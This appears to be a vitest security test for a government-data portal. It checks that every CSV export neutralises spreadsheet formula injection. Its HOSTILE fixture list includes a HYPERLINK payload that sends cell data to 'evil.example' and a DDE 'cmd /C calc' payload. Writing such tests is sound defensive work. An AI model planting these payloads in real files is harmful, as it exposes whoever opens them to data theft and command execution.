/**
 * No CSV file the portal writes holds a cell a spreadsheet would run as a formula (OWASP "CSV
 * injection"; the rule is utils/csv-file.ts). On a demo database, every text that reaches a CSV
 * (agency names, ICE's county names, place names, amendment reasons, certifiers' names and
 * titles) is replaced by hostile text starting with each formula character; then every CSV
 * download, each route whose file name ends in .csv and the national figures.csv, is fetched for
 * every agency, report, county and metric, parsed with csv-parse, and no cell may start with a
 * formula character unless it is a plain decimal number (a negative net local cost stays one).
 *
 * The text is written straight into the tables, append-only ones included (their guard is
 * lifted in this private database): the files must be safe whatever is stored, however it got
 * there (an ICE list, an old import, a form before a check was added).
 */
import fs from 'node:fs';
import http from 'node:http';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { COMPARABLE_METRICS } from '~/dashboards/statewide.server';
import { disconnectPrisma } from '~/db/prisma.server';
import { closeExportPool, NATIONAL_FIGURE_COLUMNS, NATIONAL_FIGURES_PATH, sendNationalFigures } from '~/open-data/national-figures.server';
import * as agencyBreakdowns from '~/routes/api.v1.agencies.$slug.breakdowns[.csv]';
import * as agencyCompliance from '~/routes/api.v1.agencies.$slug.compliance[.csv]';
import * as agencyFigures from '~/routes/api.v1.agencies.$slug.figures[.csv]';
import * as reportRevisions from '~/routes/api.v1.agencies.$slug.reports.$filingId.revisions[.csv]';
import * as agreements from '~/routes/api.v1.agreements[.csv]';
import * as compare from '~/routes/api.v1.compare[.csv]';
import * as metrics from '~/routes/api.v1.metrics[.csv]';
import * as countyCompliance from '~/routes/api.v1.places.$state.$county.compliance[.csv]';
import * as countyFigures from '~/routes/api.v1.places.$state.$county.figures[.csv]';
import * as stateCounties from '~/routes/api.v1.places.$state.counties[.csv]';
import * as stateFilings from '~/routes/api.v1.places.$state.filings[.csv]';
import * as stateOverdue from '~/routes/api.v1.places.$state.overdue[.csv]';
import * as stateTimeline from '~/routes/api.v1.places.$state.timeline[.csv]';
import * as template from '~/routes/filings.template.$requirementId[.csv]';
import * as reviewCompliance from '~/routes/review_.compliance[.csv]';
import { FORMULA_START, PLAIN_NUMBER } from '~/utils/csv-file';
import { cookieFor, get, TEST_CONTEXT } from '../support/requests';
import { createDemoDatabase, type TestDatabase } from '../support/test-database';

/** Each formula character of OWASP's list (and ASVS's, and the full-width forms) in a cell's first place, and a line break inside one. */
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  '+1+cmd|\' /C calc\'!A0',
  '-2+3',
  '-1',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  'Fixed the total\n=HYPERLINK("http://evil.example","x")',
];
const NEGATIVE_NET_COST = '-1234.50';

type Loader = (args: { request: Request; params: Record<string, string>; context: typeof TEST_CONTEXT }) => unknown;

interface Download {
  url: string;
  body: string;
}

let db: TestDatabase;
let national: http.Server;
let nationalOrigin = '';

/** Hostile text in every stored text that a CSV carries, round-robin over HOSTILE (by id, shifted per column). */
async function seedHostileText() {
  const prisma = db.prisma;
  const n = HOSTILE.length;
  await prisma.$executeRaw`update agency set name = (${HOSTILE}::text[])[1 + id % ${n}], ice_county_name = (${HOSTILE}::text[])[1 + (id + 1) % ${n}]`;
  await prisma.$executeRaw`update jurisdiction set name = (${HOSTILE}::text[])[1 + (id + 2) % ${n}] where kind <> 'STATE'`;
  await prisma.$executeRawUnsafe('alter table filing_revision disable trigger filing_revision_append_only');
  await prisma.$executeRawUnsafe('alter table revision_value disable trigger revision_value_append_only');
  try {
    await prisma.$executeRaw`
      update filing_revision set certified_name = (${HOSTILE}::text[])[1 + id % ${n}], certified_title = (${HOSTILE}::text[])[1 + (id + 3) % ${n}],
        amendment_reason = case when number > 1 then (${HOSTILE}::text[])[1 + (id + 5) % ${n}] end`;
    // A county can take in more than it spends: net local cost is negative, and must stay a number.
    await prisma.$executeRaw`update revision_value set value = ${NEGATIVE_NET_COST}::numeric where metric_key = 'net_local_cost'`;
  } finally {
    await prisma.$executeRawUnsafe('alter table filing_revision enable trigger filing_revision_append_only');
    await prisma.$executeRawUnsafe('alter table revision_value enable trigger revision_value_append_only');
  }
}

beforeAll(async () => {
  db = await createDemoDatabase();
  process.env.DATABASE_URL = db.url;
  await seedHostileText();
  // The national file is an Express handler (it streams PostgreSQL's COPY), not a Remix route.
  national = http.createServer((req, res) => void sendNationalFigures(new URL(req.url ?? '/', nationalOrigin), req.method ?? 'GET', res));
  await new Promise<void>((resolve) => national.listen(0, '127.0.0.1', resolve));
  nationalOrigin = `http://127.0.0.1:${(national.address() as { port: number }).port}`;
}, 180_000);
afterAll(async () => {
  if (national) await new Promise((resolve) => national.close(resolve));
  await closeExportPool();
  await disconnectPrisma();
  await db?.drop();
});

async function fromLoader(loader: Loader, url: string, params: Record<string, string>, cookie?: string): Promise<Download> {
  const response = (await loader({ request: get(url, cookie), params, context: TEST_CONTEXT })) as Response;
  expect(response.status, url).toBe(200);
  expect(response.headers.get('content-type'), url).toMatch(/^text\/csv/);
  return { url, body: Buffer.from(await response.arrayBuffer()).toString('utf8') };
}

async function nationalFile(query = ''): Promise<Download> {
  const response = await fetch(`${nationalOrigin}${NATIONAL_FIGURES_PATH}${query}`);
  expect(response.status).toBe(200);
  return { url: `${NATIONAL_FIGURES_PATH}${query}`, body: Buffer.from(await response.arrayBuffer()).toString('utf8') };
}

/**
 * Every CSV download, by the route file that serves it: the URLs to fetch, and whether the file
 * carries stored text (then it must show some hostile text, neutralised: proof the seed reached it).
 */
const DOWNLOADS: Record<string, { carriesStoredText: boolean; fetch: () => Promise<Download[]> }> = {
  'api.v1.agreements[.csv].ts': {
    carriesStoredText: true,
    fetch: () => Promise.all(['', '?lang=es', '?state=NC&status=pending'].map((query) => fromLoader(agreements.loader as Loader, `/api/v1/agreements.csv${query}`, {}))),
  },
  'api.v1.places.$state.counties[.csv].ts': {
    carriesStoredText: true,
    fetch: () => Promise.all(['', '?lang=es'].map((query) => fromLoader(stateCounties.loader as Loader, `/api/v1/places/nc/counties.csv${query}`, { state: 'nc' }))),
  },
  'api.v1.places.$state.filings[.csv].ts': {
    carriesStoredText: true,
    fetch: () => Promise.all(['', '?lang=es'].map((query) => fromLoader(stateFilings.loader as Loader, `/api/v1/places/nc/filings.csv${query}`, { state: 'nc' }))),
  },
  'api.v1.places.$state.overdue[.csv].ts': {
    carriesStoredText: true,
    fetch: () => Promise.all(['', '?lang=es'].map((query) => fromLoader(stateOverdue.loader as Loader, `/api/v1/places/nc/overdue.csv${query}`, { state: 'nc' }))),
  },
  'api.v1.places.$state.timeline[.csv].ts': {
    carriesStoredText: false,
    fetch: async () => [await fromLoader(stateTimeline.loader as Loader, '/api/v1/places/nc/timeline.csv', { state: 'nc' })],
  },
  'api.v1.places.$state.$county.figures[.csv].ts': {
    carriesStoredText: true,
    fetch: async () => Promise.all((await countiesWithAgencies()).map((county) => fromLoader(countyFigures.loader as Loader, `/api/v1/places/nc/${county}/figures.csv`, { state: 'nc', county }))),
  },
  'api.v1.places.$state.$county.compliance[.csv].ts': {
    carriesStoredText: true,
    fetch: async () =>
      Promise.all((await countiesWithAgencies()).map((county) => fromLoader(countyCompliance.loader as Loader, `/api/v1/places/nc/${county}/compliance.csv`, { state: 'nc', county }))),
  },
  'api.v1.compare[.csv].ts': {
    carriesStoredText: true,
    fetch: () => Promise.all(COMPARABLE_METRICS.map((metric) => fromLoader(compare.loader as Loader, `/api/v1/compare.csv?metric=${metric}`, {}))),
  },
  'api.v1.metrics[.csv].ts': {
    carriesStoredText: false,
    fetch: () => Promise.all(['', '?lang=es'].map((query) => fromLoader(metrics.loader as Loader, `/api/v1/metrics.csv${query}`, {}))),
  },
  // An agency's own files name it by slug; their text is the portal's own labels.
  'api.v1.agencies.$slug.figures[.csv].ts': {
    carriesStoredText: false,
    fetch: async () => Promise.all((await agencySlugs()).map((slug) => fromLoader(agencyFigures.loader as Loader, `/api/v1/agencies/${slug}/figures.csv`, { slug }))),
  },
  'api.v1.agencies.$slug.breakdowns[.csv].ts': {
    carriesStoredText: false,
    fetch: async () => Promise.all((await agencySlugs()).map((slug) => fromLoader(agencyBreakdowns.loader as Loader, `/api/v1/agencies/${slug}/breakdowns.csv`, { slug }))),
  },
  'api.v1.agencies.$slug.compliance[.csv].ts': {
    carriesStoredText: false,
    fetch: async () => Promise.all((await agencySlugs()).map((slug) => fromLoader(agencyCompliance.loader as Loader, `/api/v1/agencies/${slug}/compliance.csv`, { slug }))),
  },
  'api.v1.agencies.$slug.reports.$filingId.revisions[.csv].ts': {
    carriesStoredText: true,
    fetch: async () => {
      const filings = await db.prisma.filing.findMany({ where: { revisions: { some: {} } }, select: { id: true, agency: { select: { slug: true } } } });
      expect(filings.length).toBeGreaterThan(0);
      return Promise.all(
        filings.map((filing) =>
          fromLoader(reportRevisions.loader as Loader, `/api/v1/agencies/${filing.agency.slug}/reports/${filing.id}/revisions.csv`, { slug: filing.agency.slug, filingId: String(filing.id) }),
        ),
      );
    },
  },
  // The reviewer's compliance view: agency and place names, for the reviewer of Gaston County.
  'review_.compliance[.csv].ts': {
    carriesStoredText: true,
    fetch: async () => {
      const reviewer = await db.prisma.user.findUniqueOrThrow({ where: { email: 'reviewer.gaston@example.org' } });
      return [await fromLoader(reviewCompliance.loader as Loader, '/review/compliance.csv', {}, await cookieFor(db.prisma, reviewer.id))];
    },
  },
  'filings.template.$requirementId[.csv].ts': {
    carriesStoredText: false,
    fetch: async () => {
      const head = await db.prisma.user.findUniqueOrThrow({ where: { email: 'filer.gaston@example.org' }, include: { roles: true } });
      const cookie = await cookieFor(db.prisma, head.id);
      const requirements = await db.prisma.requirement.findMany({ where: { agencyId: { in: head.roles.map((role) => role.agencyId).filter((id) => id !== null) } } });
      expect(requirements.length).toBeGreaterThan(0);
      return Promise.all(
        requirements.map((requirement) => fromLoader(template.loader as Loader, `/filings/template/${requirement.id}.csv`, { requirementId: String(requirement.id) }, cookie)),
      );
    },
  },
};

/** Agencies with reports, and one without. */
async function agencySlugs(): Promise<string[]> {
  const withFilings = await db.prisma.agency.findMany({ where: { filings: { some: {} } }, select: { slug: true } });
  const without = await db.prisma.agency.findFirstOrThrow({ where: { filings: { none: {} } }, select: { slug: true } });
  expect(withFilings.length).toBeGreaterThan(0);
  return [...withFilings.map((agency) => agency.slug), without.slug];
}

/** North Carolina's counties with an agency of their own or of one of their towns. */
async function countiesWithAgencies(): Promise<string[]> {
  const agencies = await db.prisma.agency.findMany({
    where: { stateCode: 'NC', jurisdiction: { kind: { in: ['COUNTY', 'MUNICIPALITY'] } } },
    select: { jurisdiction: { select: { kind: true, slug: true, parent: { select: { kind: true, slug: true } } } } },
  });
  const slugs = agencies.map(({ jurisdiction: place }) => (place!.kind === 'COUNTY' ? place!.slug : place!.parent?.kind === 'COUNTY' ? place!.parent.slug : undefined));
  expect(slugs.length).toBeGreaterThan(0);
  return [...new Set(slugs.filter((slug) => slug !== undefined))];
}

/** The cells of a file (csv-parse finds the record delimiter: CRLF in every file). */
const cellsOf = (download: Download) => parse(download.body, { bom: true }) as string[][];

/** A cell a spreadsheet would run: it starts with a formula character and is not a plain decimal number. */
const runnable = (cell: string) => FORMULA_START.test(cell) && !PLAIN_NUMBER.test(cell);

describe('CSV injection', () => {
  it('covers every CSV route: a new one must be added to this test', () => {
    const routes = fs.readdirSync(path.resolve('app/routes')).filter((name) => name.includes('.csv'));
    expect(routes.sort()).toEqual(Object.keys(DOWNLOADS).sort());
  });

  it('writes every CSV through the one writer (utils/csv-file.ts)', () => {
    const writers: string[] = [];
    const walk = (dir: string) => {
      for (const entry of fs.readdirSync(dir, { withFileTypes: true })) {
        const file = path.join(dir, entry.name);
        if (entry.isDirectory()) {
          if (entry.name !== 'generated' && entry.name !== 'node_modules') walk(file);
        } else if (/\.(ts|tsx|mjs|js)$/.test(entry.name) && !/\.test\.tsx?$/.test(entry.name) && /from ['"]csv-stringify/.test(fs.readFileSync(file, 'utf8'))) {
          writers.push(path.relative(process.cwd(), file));
        }
      }
    };
    for (const dir of ['app', 'server', 'scripts', 'seeds', 'bench']) walk(path.resolve(dir));
    expect(writers).toEqual([path.join('app', 'utils', 'csv-file.ts')]);
  });

  it.each(Object.keys(DOWNLOADS))('%s: no cell starts a formula', async (route) => {
    const { carriesStoredText, fetch } = DOWNLOADS[route];
    const downloads = await fetch();
    expect(downloads.length).toBeGreaterThan(0);
    let neutralised = 0;
    for (const download of downloads) {
      const cells = cellsOf(download);
      expect(cells.length, download.url).toBeGreaterThan(0);
      for (const [i, row] of cells.entries()) {
        expect(row.length, `${download.url} row ${i + 1}`).toBe(cells[0].length);
        for (const cell of row) {
          expect(runnable(cell), `${download.url} row ${i + 1}: ${JSON.stringify(cell)}`).toBe(false);
          if (cell.startsWith("'") && runnable(cell.slice(1))) neutralised++;
        }
      }
    }
    if (carriesStoredText) expect(neutralised, `${route}: no hostile text reached the files`).toBeGreaterThan(0);
  });

  it('/api/v1/figures.csv (streamed by PostgreSQL): no cell starts a formula, and a negative figure stays a number', async () => {
    for (const query of ['', '?lang=es']) {
      const download = await nationalFile(query);
      const [header, ...rows] = cellsOf(download);
      expect(rows.length).toBeGreaterThan(0);
      for (const row of rows) {
        expect(row).toHaveLength(header.length);
        for (const cell of row) expect(runnable(cell), `${download.url}: ${JSON.stringify(cell)}`).toBe(false);
      }
      // The agency's name, from the end: a demonstration_data column may come first.
      const names = rows.map((row) => row[row.length - NATIONAL_FIGURE_COLUMNS.length + NATIONAL_FIGURE_COLUMNS.indexOf('agency_name')]);
      expect(names.some((cell) => cell.startsWith("'") && runnable(cell.slice(1)))).toBe(true);
      expect(rows.some((row) => row.includes(NEGATIVE_NET_COST))).toBe(true);
    }
  });

  it('keeps exactly the stored text behind the apostrophe, and negative figures as numbers', async () => {
    const [filings] = await DOWNLOADS['api.v1.places.$state.filings[.csv].ts'].fetch();
    const [header, ...rows] = cellsOf(filings);
    const reasons = rows.map((row) => row[header.indexOf('amendment_reason')]).filter((cell) => cell !== '');
    expect(reasons.length).toBeGreaterThan(0);
    for (const reason of reasons) expect(HOSTILE.map((text) => (runnable(text) ? `'${text}` : text))).toContain(reason);

    const figures = await DOWNLOADS['api.v1.compare[.csv].ts'].fetch();
    const net = figures.find((download) => download.url.includes('metric=net_local_cost'))!;
    const [netHeader, ...netRows] = cellsOf(net);
    const values = netRows.map((row) => row[netHeader.indexOf('value')]).filter((cell) => cell !== '');
    expect(values.length).toBeGreaterThan(0);
    for (const value of values) expect(value).toMatch(/^-\d+\.\d\d$/);
  });
});
